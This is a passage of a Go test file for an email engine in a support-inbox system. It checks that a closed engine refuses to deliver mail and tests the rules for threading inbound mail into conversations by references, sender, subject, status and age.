		t.Errorf("after SMTP refused the login the report is %+v", last)
	}

	eng.Close()
	if c := eng.Credentials(); c != nil {
		t.Errorf("Credentials() after Close = %q", c)
	}
	if _, err := eng.Deliver(bg, inbox.Outbound{MessageID: msg.ID}); err == nil {
		t.Error("a closed engine delivered")
	}
}

// logLevel is the engines' log level: EMAIL_TEST_DEBUG=1 shows everything.
func logLevel() slog.Level {
	if os.Getenv("EMAIL_TEST_DEBUG") != "" {
		return slog.LevelDebug
	}
	return slog.LevelWarn
}

// TestThreadFallback holds the subject fallback to its rule: the same
// sender, the same normalised subject, a conversation that is unresolved
// and recent; and references first, whatever the subject.
func TestThreadFallback(t *testing.T) {
	st := storetest.NewDB(t)
	log := slog.New(slog.DiscardHandler)
	svc := inbox.New(st, live.New(st.Pool, log))
	now := time.Now()
	eng, err := New(adapter.Deps{Name: "t", Key: "imap/t", Inbox: svc, Store: st, Log: log, Now: func() time.Time { return now }},
		Options{IMAP: Server{"127.0.0.1:1", TLS}, SMTP: Server{"127.0.0.1:1", TLS}, Auth: Password("u", "p"), FromAddress: "desk@example.test"})
	if err != nil {
		t.Fatal(err)
	}
	ingest := func(from, subject, id string, refs ...string) int64 {
		t.Helper()
		m := &Mail{From: from, Subject: subject, MessageID: id, References: refs, Body: "x", ReplyTo: from}
		conv, isNew, err := eng.thread(bg, m)
		if err != nil {
			t.Fatal(err)
		}
		res, err := svc.Ingest(bg, inbox.Inbound{Channel: "imap/t", Identifier: from, ExternalID: id, Subject: subject, Body: "x",
			ConversationID: conv, NewConversation: isNew})
		if err != nil {
			t.Fatal(err)
		}
		if err := eng.recordInbound(bg, res.Message.ID, m); err != nil {
			t.Fatal(err)
		}
		return res.Conversation.ID
	}
	a := ingest("ann@x.test", "Refund", "1@x")
	if c := ingest("ann@x.test", "Re: refund", "2@x"); c != a {
		t.Errorf("Re: of an open conversation's subject opened %d, want %d", c, a)
	}
	if c := ingest("ben@x.test", "Re: Refund", "3@x"); c == a {
		t.Error("another sender's mail with the same subject joined")
	}
	if c := ingest("ben@x.test", "Unrelated", "4@x", "1@x"); c != a {
		t.Errorf("a mail referencing the thread opened %d, want %d", c, a)
	}
	if c := ingest("ann@x.test", "Delivery", "5@x"); c == a {
		t.Error("a new subject joined an open conversation")
	}
	resolved := "resolved"
	if _, err := st.UpdateConversation(bg, nil, a, nil, store.ConversationChange{Status: &resolved}); err != nil {
		t.Fatal(err)
	}
	if c := ingest("ann@x.test", "Re: Refund", "6@x"); c == a {
		t.Error("the subject fallback joined a resolved conversation")
	}
	// A conversation quiet for longer than SubjectWindow is not joined.
	b := ingest("cat@x.test", "Old", "7@x")
	now = now.Add(31 * 24 * time.Hour)
	if c := ingest("cat@x.test", "Re: Old", "8@x"); c == b {
		t.Error("the subject fallback joined a conversation older than SubjectWindow")
	}
	// References reopen even a resolved conversation.
	if c := ingest("ann@x.test", "Re: Refund", "9@x", "2@x"); c != a {
		t.Errorf("a reply referencing the resolved thread opened %d, want %d", c, a)
	}
}
